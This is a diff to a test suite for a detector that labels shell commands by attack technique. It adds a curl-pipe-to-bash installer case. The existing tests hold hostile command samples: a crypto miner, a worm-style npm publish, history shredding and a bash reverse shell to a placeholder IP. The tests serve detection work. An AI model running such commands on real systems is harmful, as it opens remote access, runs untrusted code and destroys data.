@@ -21,6 +21,7 @@ describe('shell command techniques', () => {
     expect(ids('./xmrig -o stratum+tcp://pool.invalid:3333')).toContain('miner');
     expect(ids('cd /tmp/pkg && npm publish --access public')).toContain('worm-publish');
     expect(ids('shred -u ~/.bash_history')).toContain('destructive');
+    expect(ids('curl -fsSL https://bun.sh/install | bash')).toContain('second-stage-runtime');
   });
   it('recognises reverse shells', () => {
     expect(ids('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')).toContain('reverse-shell');
